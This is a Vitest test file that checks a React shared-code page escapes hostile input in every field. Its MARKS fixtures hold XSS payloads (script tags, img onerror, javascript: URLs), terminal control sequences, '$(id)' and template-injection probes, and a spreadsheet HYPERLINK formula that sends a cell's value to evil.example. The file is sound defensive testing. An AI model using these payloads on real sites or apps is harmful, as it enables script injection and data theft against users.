import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import type { SharedForm } from "#contract/share.ts";
import { formOf } from "#storage/form-test-bed.ts";
import { SharedPage } from "./shared-page.tsx";

const MARKS = {
  markup: `</title></style></pre></summary><script>alert(1)</script><img src=x onerror=alert(1)>`,
  quotes: `"'\`><a href="javascript:alert(1)" style="position:fixed">`,
  "an address": "javascript:alert(1) https://evil.example/ data:text/html,<b>",
  controls: "\0\u001b[31m\u001b]8;;https://evil.example\u0007\u202e\u2066\ufeff",
  "a formula": '=HYPERLINK("https://evil.example"&A1)',
  comments: "<!-- --!> ]]> <![CDATA[ <? {{7*7}} $(id)",
};

/** Every field that reaches the page, with a text in it. */
const FIELDS: Record<string, (text: string) => Partial<SharedForm>> = {
  code: (code) => ({ code }),
  stdin: (stdin) => ({ stdin }),
  title: (title) => ({ title }),
  note: (note) => ({ note }),
  stdout: (stdout) => ({ result: { ...resultOf(), stdout } }),
  stderr: (stderr) => ({ result: { ...resultOf(), stderr } }),
  "the runtime's version": (version) => ({ runtime: { id: "cpython", version } }),
  "a case's name": (name) => judged({ name }),
  "a case's stdin": (stdin) => judged({ stdin }),
  "what a case expects": (expected) => judged({ expected }),
  "what a case printed": (stdout) => judged({}, { stdout }),
  "what a case complained of": (stderr) => judged({}, { stderr }),
};

const resultOf = () => formOf().result as NonNullable<SharedForm["result"]>;

function judged(given: Partial<SharedForm["cases"][number]>, printed = {}): Partial<SharedForm> {
  const cases = [{ stdin: "", expected: "1\n", ...given }];
  const texts = { stdout: "2\n", stderr: "e", stdoutTruncated: false, stderrTruncated: false, ...printed };
  const judgedCase = { index: 0, ...(given.name && { name: given.name }), verdict: "wrong_answer" as const };
  const all = [{ ...judgedCase, result: resultOf(), ...texts }];
  return { cases, result: null, judgement: { cases: all, passed: 0, total: 1, comparison: { rule: "trimmed" } } };
}

function pageOf(form: Partial<SharedForm>): string {
  const share = { state: "found" as const, id: "bcdfghjkmnp", form: formOf(form), createdAt: 0 };
  const props = { share, language: "en" as const, style: "", url: "https://run.example/s/bcdfghjkmnp" };
  return renderToStaticMarkup(createElement(SharedPage, props));
}

/** The elements of a page but for those of coloured code, with their attributes but for what describes it in its head. */
function elementsOf(page: string): string[] {
  const all = page.match(/<\/?[a-z][^>]*>/gi) ?? [];
  return all.filter((tag) => !/^<\/?span/.test(tag)).map((tag) => (tag.startsWith("<meta") ? "<meta>" : tag));
}

test.each(
  Object.keys(FIELDS).flatMap((field) => Object.entries(MARKS).map(([kind, mark]) => [kind, field, mark] as const)),
)("%s in %s is text, and makes no element", (_, field, mark) => {
  const make = FIELDS[field] as (text: string) => Partial<SharedForm>;
  const [hostile, harmless] = [pageOf(make(mark)), pageOf(make("text"))];
  expect(elementsOf(hostile)).toEqual(elementsOf(harmless));
  expect(hostile).not.toMatch(/<script|<img|<style[^>]*>[^<]*evil/i);
});
